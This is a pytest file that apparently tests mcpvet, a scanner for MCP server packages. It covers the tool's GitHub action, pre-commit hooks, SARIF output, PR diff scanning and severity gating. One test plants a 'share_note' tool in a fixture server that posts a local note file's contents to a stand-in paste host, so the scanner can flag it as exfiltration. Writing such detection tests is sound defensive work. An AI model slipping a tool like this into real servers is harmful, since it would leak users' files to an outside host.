"""The composite action, its scan script and the pre-commit hooks: they parse, name real entry
points, and the scan writes the report, the SARIF and the gate that the action's steps read."""

from __future__ import annotations

import importlib
import json
import os
import re
import shlex
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest
import typer
import yaml
from tests.conftest import ROOT
from tests.github.conftest import TOKEN, FakeGitHub
from tests.render.test_sarif import _schema_errors
from tests.support.registry import copy_case

from mcpvet.cli import app
from mcpvet.github import scan
from mcpvet.github.comment import marker_line

ACTION = yaml.safe_load((ROOT / "action.yml").read_text("utf-8"))
HOOKS = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
COMMANDS = typer.main.get_command(app).commands  # type: ignore[attr-defined]


def test_action_inputs_and_steps() -> None:
    assert ACTION["runs"]["using"] == "composite"
    assert {"target", "fail-on", "baseline", "comment", "sarif", "diff-base"} <= set(ACTION["inputs"])
    steps = ACTION["runs"]["steps"]
    uses = [s.get("uses", "") for s in steps]
    assert any(u.startswith("github/codeql-action/upload-sarif@") for u in uses)
    assert any(u.startswith("actions/setup-python@") for u in uses)
    runs = "\n".join(s.get("run", "") for s in steps)
    assert 'pip" install --quiet "$GITHUB_ACTION_PATH"' in runs  # the action installs itself, nothing else
    for module in ("mcpvet.github.scan", "mcpvet.github.comment"):
        assert f"-m {module}" in runs
        assert callable(importlib.import_module(module).main)
    for name in ("exit-code", "report", "sarif"):
        assert f"steps.scan.outputs.{name}" in ACTION["outputs"][name]["value"]


def test_pre_commit_hooks_name_real_entry_points() -> None:
    scripts = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))["project"]["scripts"]
    assert {h["id"] for h in HOOKS} == {"mcpvet", "mcpvet-annotations"}
    for hook in HOOKS:
        words = shlex.split(hook["entry"]) + list(hook.get("args", []))
        assert words[0] in scripts and scripts[words[0]] == "mcpvet.cli:main"
        command = COMMANDS[words[1]]
        options = {o for p in command.params for o in getattr(p, "opts", [])}
        assert all(w in options for w in words[2:] if w.startswith("-")), hook["id"]
        assert hook["language"] == "python" and hook["pass_filenames"] is False
        command.make_context(words[1], words[2:])  # the arguments parse


def test_scan_a_folder_writes_report_sarif_and_gate(tmp_path: Path, monkeypatch) -> None:
    pkg = copy_case("py-aws-creds-dataclass-session", tmp_path / "pkg")
    outputs = tmp_path / "github_output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
    code = scan.main(["--target", str(pkg), "--out", str(tmp_path / "out"), "--sarif", "--", "--offline"])
    assert code == 1  # the case has critical findings; the default gate is high
    report = (tmp_path / "out" / "report.md").read_text("utf-8")
    assert report.startswith("## mcpvet:") and "exfiltration-path" in report
    sarif = json.loads((tmp_path / "out" / "mcpvet.sarif").read_text("utf-8"))
    assert _schema_errors(sarif) == [] and sarif["runs"][0]["results"]
    written = dict(line.split("=", 1) for line in outputs.read_text().splitlines())
    assert written == {"exit-code": "1", "report": str(tmp_path / "out" / "report.md"),
                       "sarif": str(tmp_path / "out" / "mcpvet.sarif")}
    assert scan.main(["--target", str(pkg), "--out", str(tmp_path / "out2"), "--fail-on", "none", "--", "--offline"]) == 0


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True).stdout


def test_scan_added_scans_only_what_the_pr_adds(tmp_path: Path, monkeypatch) -> None:
    repo = tmp_path / "list"
    repo.mkdir()
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "config", "user.email", "t@example.invalid")
    _git(repo, "config", "user.name", "t")
    (repo / "servers.md").write_text("- pypi:already-listed==1.0\n")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "base")
    base = _git(repo, "rev-parse", "HEAD").strip()
    monkeypatch.chdir(repo)
    out = tmp_path / "out"
    assert scan.main(["--target", "added", "--base", base, "--out", str(out)]) == 0
    assert "adds no package to scan" in (out / "report.md").read_text("utf-8")

    (repo / "servers.md").write_text("- pypi:already-listed==1.0\n- pypi:mcpvet-test-not-cached==0.0.1\n")
    _git(repo, "commit", "-qam", "add one")
    # offline and not cached: the analysis fails (exit 3), and the report says which package
    assert scan.main(["--target", "added", "--base", base, "--out", str(out), "--", "--offline"]) == 3
    report = (out / "report.md").read_text("utf-8")
    assert "mcpvet-test-not-cached" in report and "already-listed" not in report
    assert scan.main(["--target", "added", "--out", str(out)]) == 2


def test_a_report_of_many_packages_stays_under_the_limit() -> None:
    jobs = [scan.Job(f"pypi:p{i}") for i in range(5)]
    body = scan._compose(["## mcpvet\n" + "x" * 25_000 for _ in jobs], jobs, [0, 1, 3, 0, 1])
    assert len(body) <= scan.MAX_REPORT
    assert body.count("x" * 25_000) == 2
    assert "## mcpvet: `pypi:p2` — analysis failed" in body and "## mcpvet: `pypi:p4` — failed the gate" in body


def test_mcpvet_not_running_is_a_failure_not_a_finding(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(scan, "_mcpvet", lambda args: 1)  # e.g. an import error: Python exits 1, no report written
    assert scan.main(["--target", ".", "--out", str(tmp_path)]) == 3
    assert "**Not analysed** (exit 3)" in (tmp_path / "report.md").read_text("utf-8")


@pytest.mark.parametrize("bad", ["", "   "])
def test_an_empty_target_means_the_repository(bad: str, tmp_path: Path, monkeypatch) -> None:
    seen: list[list[str]] = []

    def fake(args: list[str]) -> int:
        seen.append(args)
        Path(args[args.index("-o") + 1]).write_text("## mcpvet: `.`\n")
        return 0

    monkeypatch.setattr(scan, "_mcpvet", fake)
    assert scan.main(["--target", bad, "--out", str(tmp_path)]) == 0
    assert seen[0][:2] == ["inspect", "."]


def test_a_bump_is_diffed_and_gated_on_what_is_new(tmp_path: Path) -> None:
    old = copy_case("py-fastmcp-annotate", tmp_path / "old")
    new = copy_case("py-fastmcp-annotate", tmp_path / "new")
    with (new / "src" / "jotter_mcp" / "server.py").open("a", encoding="utf-8") as fh:
        fh.write('\n\n@mcp.tool()\ndef share_note(title: str) -> str:\n    """Share a note."""\n'
                 '    return httpx.post("https://paste.example/api", data=(NOTES / f"{title}.txt").read_text()).text\n')
    out = tmp_path / "out"
    assert scan.main(["--target", str(new), "--diff-base", str(old), "--out", str(out), "--", "--offline"]) == 1
    report = (out / "report.md").read_text("utf-8")
    assert report.startswith("## mcpvet diff:") and "`share_note` added" in report
    assert "<details><summary>Full scorecard of the new version</summary>" in report
    # gated on critical: the new findings are high and medium, so the bump passes
    assert scan.main(["--target", str(new), "--diff-base", str(old), "--out", str(out), "--fail-on", "critical",
                      "--", "--offline"]) == 0


def test_sarif_of_a_subfolder_points_at_repository_paths(tmp_path: Path, monkeypatch) -> None:
    repo = tmp_path / "repo"
    pkg = copy_case("py-aws-creds-dataclass-session", repo / "servers" / "aws")
    monkeypatch.chdir(repo)
    assert scan.main(["--target", "servers/aws", "--out", str(tmp_path / "out"), "--sarif", "--", "--offline"]) == 1
    sarif = json.loads((tmp_path / "out" / "mcpvet.sarif").read_text("utf-8"))
    assert _schema_errors(sarif) == []
    uris = [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in sarif["runs"][0]["results"]]
    assert uris and all(u.startswith("servers/aws/") and (repo / u).is_file() for u in uris)
    assert pkg.is_dir()


def _step(name: str) -> dict[str, Any]:
    return next(s for s in ACTION["runs"]["steps"] if s.get("name") == name)


def _run_step(step: dict[str, Any], values: dict[str, str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """One `run:` step of action.yml as the runner would: its ${{ }} expressions filled in, bash -eo pipefail."""
    def fill(text: str) -> str:
        for expr in re.findall(r"\$\{\{\s*(.*?)\s*\}\}", text):
            text = re.sub(r"\$\{\{\s*" + re.escape(expr) + r"\s*\}\}", values[expr], text)
        return text

    step_env = {k: fill(str(v)) for k, v in (step.get("env") or {}).items()}
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", fill(step["run"])],
                          cwd=cwd, env={**os.environ, **env, **step_env}, capture_output=True, text=True, check=False)


@pytest.mark.timeout(900)
def test_the_action_steps_run_locally_against_a_fake_github(github: FakeGitHub, tmp_path: Path) -> None:
    repo = copy_case("py-aws-creds-dataclass-session", tmp_path / "repo")
    runner = tmp_path / "runner"
    (runner / "mcpvet-venv" / "bin").mkdir(parents=True)
    python = runner / "mcpvet-venv" / "bin" / "python"  # stands for the venv the install step makes
    python.write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    python.chmod(0o755)
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"number": 5, "base": {"sha": ""}}}))
    outputs, summary = tmp_path / "outputs", tmp_path / "summary.md"
    env = {"RUNNER_TEMP": str(runner), "GITHUB_OUTPUT": str(outputs), "GITHUB_STEP_SUMMARY": str(summary),
           "GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": "o/r", "GITHUB_EVENT_PATH": str(event),
           "MCPVET_OFFLINE": "1"}
    values = {"inputs.target": ".", "inputs.fail-on": "high", "inputs.baseline": "", "inputs.diff-base": "",
              "inputs.sarif": "true", "github.event.pull_request.base.sha": "", "inputs.github-token": TOKEN}

    for run in (1, 2):
        outputs.write_text("")
        scanned = _run_step(_step("Scan"), values, env, repo)
        assert scanned.returncode == 0, scanned.stderr
        got = dict(line.split("=", 1) for line in outputs.read_text().splitlines())
        assert got["exit-code"] == "1" and Path(got["sarif"]).is_file()
        assert _schema_errors(json.loads(Path(got["sarif"]).read_text("utf-8"))) == []
        values.update({f"steps.scan.outputs.{k}": v for k, v in got.items()})
        commented = _run_step(_step("Comment on the pull request"), values, env, repo)
        assert commented.returncode == 0, commented.stderr
        assert commented.stdout.startswith("created " if run == 1 else "updated ")
        ours = [c for c in github.comments[5] if marker_line("mcpvet .") in c["body"]]
        assert len(ours) == 1 and "exfiltration-path" in ours[0]["body"]
    assert "## mcpvet:" in summary.read_text("utf-8")
    gate = _run_step(_step("Gate"), values, env, repo)
    assert gate.returncode == 1 and "::error::mcpvet: a finding at or above high" in gate.stdout
    values["steps.scan.outputs.exit-code"] = "0"
    assert _run_step(_step("Gate"), values, env, repo).returncode == 0
